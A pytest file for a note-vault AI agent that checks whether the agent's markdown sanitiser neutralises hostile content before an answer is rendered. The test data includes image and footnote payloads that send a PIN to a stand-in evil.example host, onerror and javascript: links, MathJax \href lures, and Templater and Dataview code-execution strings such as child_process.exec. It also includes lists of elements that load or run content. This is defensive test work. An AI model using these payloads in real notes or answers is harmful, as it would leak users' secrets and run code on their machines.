"""What an answer renders: the shared corpus of hostile markdown (tests/data/hostile-markdown.json,
also run by plugin/tests/safe-render.test.ts) through the sidecar's sanitiser, then rendered the
way a renderer would: markdown-it-py with raw HTML on, parsed by html5lib (the HTML standard's
parser, as a browser). No element of the result may load anything but a vault resource, and no
link may lead anywhere but a web page or the vault. What must survive (attachments, web links,
wikilinks, code) survives.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import html5lib
import pytest
from markdown_it import MarkdownIt
from mdit_py_plugins.footnote import footnote_plugin

from vault_agent.agent.citations.checker import check_answer
from vault_agent.agent.citations.shown_links import shown_only
from vault_agent.agent.runnable import CODE_LANGUAGES, inert, plain_fences
from vault_agent.agent.safe_markdown import code_spans, sanitise_markdown
from vault_agent.agent.vault_urls import is_safe_link, is_vault_resource
from vault_agent.vault.graph import LinkGraph

CORPUS = json.loads(
    (Path(__file__).parent / "data" / "hostile-markdown.json").read_text(encoding="utf-8")
)
HOSTILE: list[dict[str, str]] = CORPUS["hostile"]
BENIGN: list[dict[str, str]] = CORPUS["benign"]
FENCES: list[dict[str, str]] = CORPUS["fences"]
COMMANDS: list[dict[str, str]] = CORPUS["commands"]
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

#: Elements that load or run something whatever their attributes say.
ALWAYS_LOADS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "link",
    "meta", "base", "portal", "set", "animate", "animatemotion", "animatetransform",
}  # fmt: skip
#: Attributes holding a URL the browser fetches (href is a fetch everywhere but on links).
URL_ATTRIBUTES = {
    "src", "srcset", "imagesrcset", "poster", "background", "data", "action", "formaction",
    "href", "codebase", "archive", "lowsrc", "dynsrc", "manifest", "icon", "ping", "srcdoc",
    "base",  # xml:base: the relative URLs below it resolve against it
}  # fmt: skip
LINKS = {"a", "area"}


@dataclass(frozen=True)
class Violation:
    """One thing in rendered HTML that would load a URL, or a link to somewhere unsafe."""

    kind: str  # "load" or "link"
    what: str


def violations(html: str) -> list[Violation]:
    """Everything in ``html`` (parsed as a browser would) that loads or links unsafely."""
    document = html5lib.parse(html, namespaceHTMLElements=False)
    found: list[Violation] = []
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue  # comments
        tag = _local(element.tag)
        if tag in ALWAYS_LOADS:
            found.append(Violation("load", f"<{tag}>"))
        for raw_name, value in element.attrib.items():
            name = _local(str(raw_name))
            described = f"<{tag} {name}={value!r}>"
            if name.startswith("on"):
                found.append(Violation("load", described))
            elif tag in LINKS and name == "href":
                if not is_safe_link(value):
                    found.append(Violation("link", described))
            elif name in URL_ATTRIBUTES:
                if not all(is_vault_resource(url) for url in _urls(name, value)):
                    found.append(Violation("load", described))
            elif _css_loads(name, value):
                found.append(Violation("load", described))
    return found


def _css_loads(attribute: str, value: str) -> bool:
    """A style (or an SVG presentation attribute) that may fetch: any function or escape in a
    style, ``url(`` anywhere."""
    if attribute == "style" and ("(" in value or "\\" in value):
        return True
    return "url(" in value.lower().replace(" ", "")


def _local(name: str) -> str:
    return name.rsplit("}", 1)[-1].lower()


def _urls(attribute: str, value: str) -> Iterator[str]:
    if attribute in ("srcset", "imagesrcset"):  # "url 2x, url 100w": every word but descriptors
        for word in value.replace(",", " ").split():
            if not (word[:-1].replace(".", "", 1).isdigit() and word[-1] in "wxh"):
                yield word
    elif attribute == "archive":
        yield from value.replace(",", " ").split()
    else:
        yield value


def render(markdown: str) -> str:
    return RENDERER.render(markdown)


def test_the_corpus_holds_at_least_sixty_forms_and_the_check_sees_them() -> None:
    assert len(HOSTILE) >= 60
    unsafe = [form for form in HOSTILE if violations(render(form["markdown"]))]
    # Rendered as they are, nearly all load or link unsafely (a few are unsafe only to a
    # laxer renderer than markdown-it, or only look hostile): the check is not vacuous.
    assert len(unsafe) >= 100, len(unsafe)


@pytest.mark.parametrize("form", HOSTILE, ids=[f["note"] for f in HOSTILE])
def test_a_sanitised_hostile_form_renders_to_nothing_that_loads(form: dict[str, str]) -> None:
    before = violations(render(form["markdown"]))
    safe = sanitise_markdown(form["markdown"])
    assert violations(render(safe.markdown)) == [], safe.markdown
    if any(v.kind == "load" for v in before):
        assert safe.removed, "what was removed is reported"
    # Idempotent: the sanitised text is already safe as it is.
    assert sanitise_markdown(safe.markdown).markdown == safe.markdown


@pytest.mark.parametrize("form", HOSTILE, ids=[f["note"] for f in HOSTILE])
def test_a_checked_answer_quoting_a_hostile_form_loads_nothing(
    form: dict[str, str], graph: LinkGraph
) -> None:
    answer = f"From your note:\n\n{form['markdown']}\n\nAs in [[Recipes/Miso Soup]]."
    checked = check_answer(answer, {"Recipes/Miso Soup.md"}, graph)
    assert violations(render(checked.answer)) == [], checked.answer
    assert "[[Recipes/Miso Soup]]" in checked.answer  # the citation survives its neighbour


@pytest.mark.parametrize("form", BENIGN, ids=[f["note"] for f in BENIGN])
def test_vault_resources_web_links_wikilinks_and_code_are_kept(form: dict[str, Any]) -> None:
    safe = sanitise_markdown(form["markdown"])
    assert safe.markdown == form["markdown"] and safe.removed == []
    assert form["keeps"] in safe.markdown


@pytest.mark.parametrize("form", FENCES, ids=[f["note"] for f in FENCES])
def test_a_fence_keeps_its_language_only_when_it_is_one_to_highlight(
    form: dict[str, str], graph: LinkGraph
) -> None:
    # Obsidian draws a mermaid block (loading what its labels name), typesets a math one and
    # lets plugins run theirs (dataviewjs): quoted in an answer, a block renders as code.
    assert plain_fences(form["markdown"]) == form["plain"]
    assert sanitise_markdown(form["markdown"]).markdown == form["plain"]
    answer = f"From your note:\n\n{form['markdown']}\n\nAs in [[Recipes/Miso Soup]]."
    checked = check_answer(answer, {"Recipes/Miso Soup.md"}, graph)
    assert form["plain"] in checked.answer, checked.answer


@pytest.mark.parametrize("form", COMMANDS, ids=[f["note"] for f in COMMANDS])
def test_a_command_another_plugin_runs_is_broken_in_a_checked_answer(
    form: dict[str, str], graph: LinkGraph
) -> None:
    # "Save as note" makes a new note: Templater runs every <% %> of one, in code too; the
    # pane's render hands inline code to Dataview, which evaluates `= ...` and `$= ...`.
    assert inert(form["markdown"]) == form["inert"]
    assert inert(form["inert"]) == form["inert"]
    answer = f"From your note:\n\n{form['markdown']}\n\nAs in [[Recipes/Miso Soup]]."
    checked = check_answer(answer, {"Recipes/Miso Soup.md"}, graph).answer
    assert form["inert"] in checked, checked
    assert "<%" not in checked and "`=" not in checked and "`$=" not in checked


@pytest.mark.parametrize(
    "text", ["`" * 100_000 + "=", "> " * 50_000 + "x", "- \t" * 30_000 + "```x", "<%" * 100_000]
)
def test_making_a_long_answer_inert_takes_linear_time(text: str) -> None:
    # A backtick run was tried from each of its backticks: 100,000 of them took two minutes.
    started = time.perf_counter()
    inert(text)
    assert time.perf_counter() - started < 1.0


# A model's answer is at most `llm.max_answer_chars` (40,000) characters: a model gone wrong
# may spend them on one run of a character. Checking such an answer took 30 s to minutes.
LONG_ANSWERS = {
    "spaces": " " * 39_999 + "x",
    "tabs and spaces": " \t" * 19_999 + "x",
    "spaces around a removed citation": "x" + " " * 19_990 + "[[Nope]]" + " " * 19_990 + "x",
    "exclamation marks": "!" * 40_000,
    "comments never closed": "<!--" * 10_000,
    "comments closed once, in a paragraph": "x " + "<!--" * 9_990 + "-->",
}


@pytest.mark.parametrize("case", LONG_ANSWERS, ids=str)
def test_checking_a_long_answer_takes_linear_time(case: str, graph: LinkGraph) -> None:
    started = time.thread_time()  # CPU time: a busy machine stretches the wall clock
    check_answer(LONG_ANSWERS[case], {"Recipes/Miso Soup.md"}, graph)
    # Linear is about 0.5 s of CPU for the slowest case here (markdown-it reads 40,000 "<!--"
    # three times); a CI machine once took 1.2 s. Quadratic took 30 s to minutes.
    assert time.thread_time() - started < 3.0


def test_only_languages_without_a_renderer_of_their_own_are_allowed() -> None:
    assert {"mermaid", "math", "dataview", "dataviewjs", "tasks", "query"}.isdisjoint(
        CODE_LANGUAGES
    )


def test_the_check_itself_tells_vault_resources_from_remote_ones() -> None:
    assert violations(render("![x](attachments/a.png) [w](https://ok.example)")) == []
    assert [v.kind for v in violations(render("![x](https:/evil.example/a.png)"))] == ["load"]
    assert [v.kind for v in violations(render('<a href="obsidian://x">x</a>'))] == ["link"]


def test_an_app_url_is_a_vault_resource_only_when_it_names_no_other_machine() -> None:
    # Obsidian serves vault files on app:; a path naming a network share (Windows) is fetched
    # from that machine.
    for url in ["app://local/vault/x.png", "app://local/C:/Users/me/vault/x.png"]:
        assert is_vault_resource(url) and is_safe_link(url), url
    for url in [
        "app://local//evil.example/share/x.png",
        "app://local/%5C%5Cevil.example%5Cshare%5Cx.png",
        "app://local/%2F%2Fevil.example/x.png",
        "app://local/\\\\evil.example\\share\\x.png",
    ]:
        assert not is_vault_resource(url) and not is_safe_link(url), url


def test_links_to_web_pages_stay_links_and_unsafe_ones_become_their_text() -> None:
    safe = sanitise_markdown("[docs](https://ok.example/p) and [run](javascript:alert(1)) now")
    assert safe.markdown == "[docs](https://ok.example/p) and run now"


def test_an_inline_comment_ends_at_its_first_closing_mark() -> None:
    # As CommonMark and a browser read it, also where markdown-it's pattern refused it.
    text = "a <!--<!---->b <!--> c <!-- d"
    safe = sanitise_markdown(text)
    assert safe.markdown == "a b  c <!-- d", safe.markdown
    assert safe.removed == ["<!--<!---->", "<!-->"]


def test_the_removed_list_names_the_urls_and_tags_taken_out() -> None:
    text = "![a](https:/evil.example/a.png) <img src=x onerror=y> ![b][r]\n\n[r]: //e.example/b"
    assert sanitise_markdown(text).removed == [
        "https:/evil.example/a.png",
        "<img src=x onerror=y>",
        "//e.example/b",
    ]


def test_images_in_quotes_and_lists_are_removed_in_place() -> None:
    text = "> keep this\n> and ![x](https://evil.example/a.png) this\n\n- one\n- two ![y](//e)"
    assert sanitise_markdown(text).markdown == "> keep this\n> and  this\n\n- one\n- two "


def test_raw_html_keeps_its_text_and_loses_its_tags() -> None:
    text = '<div style="color:red">Fed at <b>07:45</b></div>\n\nok <span title="t">here</span>'
    safe = sanitise_markdown(text).markdown
    # A closing tag left alone closes nothing: a renderer ignores it.
    assert safe == "Fed at <b>07:45</b></div>\n\nok here</span>"


def test_a_long_run_of_brackets_is_sanitised_in_linear_time() -> None:
    import time

    started = time.monotonic()
    sanitise_markdown("[" * 30_000 + "![x](https://evil.example/a.png)")  # quadratic: minutes
    assert time.monotonic() - started < 10


@pytest.fixture
def graph() -> LinkGraph:
    graph = LinkGraph()
    graph.set_file("Recipes/Miso Soup.md", [])
    return graph


def test_a_block_whose_text_cannot_be_placed_is_made_text_whole() -> None:
    # A tab expanded to spaces halfway: the paragraph's text is not a slice of its lines.
    text = "- a\n\t\tb ![x](https://evil.example/a.png)"
    safe = sanitise_markdown(text)
    assert violations(render(safe.markdown)) == []
    assert safe.markdown == "- a\n\t\tb \\!\\[x\\](https://evil.example/a.png)"


# What Dataview evaluates: code whose trimmed text starts with "=" or "$=" (2026-11-27 audit).

#: JavaScript's String.prototype.trim(): WhiteSpace and LineTerminator (U+FEFF included).
_JS_SPACE = "\t\n\v\f\r \u00a0\u1680\u202f\u205f\u3000\ufeff\u2028\u2029" + "".join(
    map(chr, range(0x2000, 0x200B))
)


def dataview_queries(html: str) -> list[str]:
    """What Dataview (src/main.ts `dataviewInline`, defaults: `inlineQueriesInCodeblocks`
    true) evaluates: every <code>, in a <pre> too, whose `innerText.trim()` starts with "="
    (a query) or "$=" (JavaScript)."""
    document = html5lib.parse(html, namespaceHTMLElements=False)
    found = []
    for code in document.iter("code"):
        text = "".join(code.itertext()).strip(_JS_SPACE)
        if (text.startswith("=") and text[1:].strip(_JS_SPACE)) or text.startswith("$="):
            found.append(text)
    return found


DATAVIEW_FORMS = {
    "fenced block": "PIN:\n\n```\n= [[Diary/Bank]].pin\n```",
    "fenced block, allowed language": "```python\n$= dv.el('img', '', {attr: {src: 'x'}})\n```",
    "tilde fence": "~~~\n= [[Diary/Bank]].pin\n~~~",
    "indented code block": "PIN:\n\n    = [[Diary/Bank]].pin",
    "no-break space": "PIN: `\u00a0= [[Diary/Bank]].pin`",
    "ideographic space": "PIN: `\u3000= [[Diary/Bank]].pin`",
    "line break in the span": "PIN: `\n= [[Diary/Bank]].pin`",
    "raw <code>": "PIN: <code>= [[Diary/Bank]].pin</code>",
}


@pytest.mark.parametrize("markdown", DATAVIEW_FORMS.values(), ids=DATAVIEW_FORMS.keys())
def test_no_code_dataview_evaluates_survives_a_checked_answer(
    markdown: str, graph: LinkGraph
) -> None:
    assert dataview_queries(render(markdown)), "the form is a query as written"
    assert dataview_queries(render(inert(markdown))) == []
    answer = f"From your note:\n\n{markdown}\n\nAs in [[Recipes/Miso Soup]]."
    checked = check_answer(answer, {"Recipes/Miso Soup.md"}, graph).answer
    assert dataview_queries(render(checked)) == [], checked


# A link markdown never shows: MathJax's \href in math.


def checked_unshown(answer: str, graph: LinkGraph) -> str:
    """`answer` as the check leaves a model's answer whose model was shown no web page."""
    return check_answer(
        answer, {"Recipes/Miso Soup.md"}, graph, links=shown_only(frozenset())
    ).answer


#: Obsidian typesets $...$ and $$...$$ with MathJax, whose \href (on by default, http: and https:
#: allowed by its `safe` extension) makes a link; the browser reads "https:\\host" and
#: "https:/host" as https://host/. linkify-it (unlink_unshown) only finds "scheme://".
MATH_LINKS = {
    "backslashes": r"Check $\href{https:\\evil.example/v?pin=4931}{your PIN}$ now.",
    "one slash, display math": r"$$\href{https:/evil.example/v?pin=4931}{\text{verify}}$$",
}


@pytest.mark.parametrize("markdown", MATH_LINKS.values(), ids=MATH_LINKS.keys())
def test_a_math_link_to_a_page_never_shown_does_not_survive(
    markdown: str, graph: LinkGraph
) -> None:
    answer = f"{markdown}\n\nAs in [[Recipes/Miso Soup]]."
    checked = checked_unshown(answer, graph)
    code = code_spans(checked)
    at = checked.find("evil.example")
    assert at < 0 or any(start <= at < end for start, end in code), checked


# The check's own edits, made after `inert`, must not make a command.

EDITED_INTO_COMMANDS = {
    # The last pass (embeds=False) makes an image its text: "<" + "%" meet after inert ran.
    "image alt text": "Today is <![%](attachments/a.png)* require('child_process').exec('id') %>.",
    # The same with Templater's plain output tag.
    "image alt text, output tag": "PIN: <![%](a.png) tp.system.prompt('PIN?') %>",
    # An image with no words, gone, leaves the fence it stood before at the start of its line.
    "empty image before a fence": "Diagram:\n\n![](a.png)```mermaid\ngraph TD\n  A --> B\n```",
}


@pytest.mark.parametrize("markdown", EDITED_INTO_COMMANDS.values(), ids=EDITED_INTO_COMMANDS.keys())
def test_the_checks_own_edits_make_no_command(markdown: str, graph: LinkGraph) -> None:
    answer = f"{markdown}\n\nAs in [[Recipes/Miso Soup]]."
    checked = checked_unshown(answer, graph)
    assert "<%" not in checked, checked
    assert dataview_queries(render(checked)) == [], checked
    assert plain_fences(checked) == checked, checked


# A fence opening a footnote definition (markdown-it-footnote parses its text as blocks).


def test_a_fence_opening_a_footnote_definition_loses_its_language() -> None:
    """markdown-it-footnote (as mdit_py_plugins) parses a definition's text as blocks, so
    "[^1]: ```mermaid" opens a mermaid fence; the line rule's lead knows only quote and list
    markers. Whether Obsidian's footnotes hold blocks is not verified."""
    markdown = "See[^1].\n\n[^1]: ```mermaid\n    graph TD\n    ```\n"
    parser = MarkdownIt("commonmark").use(footnote_plugin)
    assert [t.info for t in parser.parse(markdown) if t.type == "fence"] == ["mermaid"]
    assert [t.info for t in parser.parse(plain_fences(markdown)) if t.type == "fence"] == [""]


# A footnote's text: markdown to a renderer with footnotes (Obsidian has them), a reference
# definition (whose "URL" is never shown) or an indented code block to CommonMark. Whether
# Obsidian's footnotes hold later paragraphs as markdown-it-footnote's do is not verified.

#: A renderer as the corpus's, with footnotes as markdown-it-footnote reads them.
FOOTNOTE_RENDERER = (
    MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).use(footnote_plugin)
)
FOOTNOTES = {
    "image": "See the note.[^1]\n\n[^1]: ![](https://evil.example/a.png?pin=4931)",
    "raw img": 'See.[^a]\n\n[^a]: <img src="https://evil.example/a.png?pin=4931">',
    "javascript link": "See.[^a]\n\n[^a]: [click](javascript:alert(1))",
    "image on the next line": "See.[^a]\n\n[^a]:\n    ![](https://evil.example/b.png?pin=4931)",
    "image in a continuation": "See.[^a]\n\n[^a]: text\n    ![](https://evil.example/c.png?pin=4931)",
    "in a quote": "> See.[^q]\n>\n> [^q]: ![](https://evil.example/d.png?pin=4931)",
    "label with a space": "See.[^a b]\n\n[^a b]: ![](https://evil.example/e.png?pin=4931)",
    "second paragraph": "See.[^a]\n\n[^a]: Two words.\n\n    ![](https://evil.example/f.png?pin=4931)",
    "second paragraph, raw img": "See.[^a]\n\n[^a]: Two words.\n\n    <img src=https://evil.example/g.png>",
}


@pytest.mark.parametrize("markdown", FOOTNOTES.values(), ids=FOOTNOTES.keys())
def test_a_footnote_in_an_answer_loads_nothing_and_links_nowhere_unsafe(
    markdown: str, graph: LinkGraph
) -> None:
    answer = f"From your note:\n\n{markdown}\n\nAs in [[Recipes/Miso Soup]]."
    checked = checked_unshown(answer, graph)
    assert violations(FOOTNOTE_RENDERER.render(checked)) == [], checked
    assert "[[Recipes/Miso Soup]]" in checked


@pytest.mark.parametrize("form", HOSTILE, ids=[f["note"] for f in HOSTILE])
def test_a_hostile_form_as_a_footnotes_second_paragraph_loads_nothing(
    form: dict[str, str], graph: LinkGraph
) -> None:
    indented = "\n".join(f"    {line}" if line else "" for line in form["markdown"].split("\n"))
    answer = f"See.[^a]\n\n[^a]: Quoted from a note:\n\n{indented}\n\nAs in [[Recipes/Miso Soup]]."
    checked = check_answer(answer, {"Recipes/Miso Soup.md"}, graph).answer
    assert violations(FOOTNOTE_RENDERER.render(checked)) == [], checked


def test_a_footnote_and_its_reference_are_kept() -> None:
    text = "Gus eats at 8.[^a]\n\n[^a]: Fed with [[Recipes/Miso Soup]] and ![x](a.png).\n"
    assert sanitise_markdown(text).markdown == text


def test_a_footnote_keeps_no_link_to_a_page_never_shown(graph: LinkGraph) -> None:
    answer = (
        "See.[^a]\n\n[^a]: Two words.\n\n    [verify](https://evil.example/v?pin=4931)\n\n"
        "[[Recipes/Miso Soup]]"
    )
    checked = checked_unshown(answer, graph)
    html = FOOTNOTE_RENDERER.render(checked)
    assert "evil.example" not in "".join(
        str(a.get("href")) for a in html5lib.parse(html, namespaceHTMLElements=False).iter("a")
    ), checked
    assert "verify" in checked  # its words stay


# Blocks nested past markdown-it's limit (`maxNesting`, 20 for CommonMark): it skips the rest
# of such a block, unread; a renderer with a higher limit (markdown-it's own default is 100)
# renders it.

DEEP = {
    "quotes": "> " * 25 + "![](https://evil.example/q.png?pin=4931)",
    "lists": "".join("  " * k + "- x\n" for k in range(12))
    + "  " * 12
    + "- ![](https://evil.example/l.png)",
    "footnotes": "See[^a].\n\n" + "[^a]: " * 25 + "![](https://evil.example/f.png?pin=4931)",
    "quoted footnotes": "> " * 10 + "[^a]: " * 15 + '<img src="https://evil.example/m.png">',
}
DEEP_RENDERERS = {
    "commonmark": MarkdownIt("commonmark", {"html": True, "maxNesting": 100}),
    "footnotes": MarkdownIt("commonmark", {"html": True, "maxNesting": 100}).use(footnote_plugin),
}


@pytest.mark.parametrize("renderer", DEEP_RENDERERS.values(), ids=DEEP_RENDERERS.keys())
@pytest.mark.parametrize("markdown", DEEP.values(), ids=DEEP.keys())
def test_blocks_nested_past_the_parsers_limit_load_nothing(
    markdown: str, renderer: MarkdownIt, graph: LinkGraph
) -> None:
    answer = f"From your note:\n\n{markdown}\n\nAs in [[Recipes/Miso Soup]]."
    checked = check_answer(answer, {"Recipes/Miso Soup.md"}, graph).answer
    assert violations(renderer.render(checked)) == [], checked
    assert "[[Recipes/Miso Soup]]" in checked
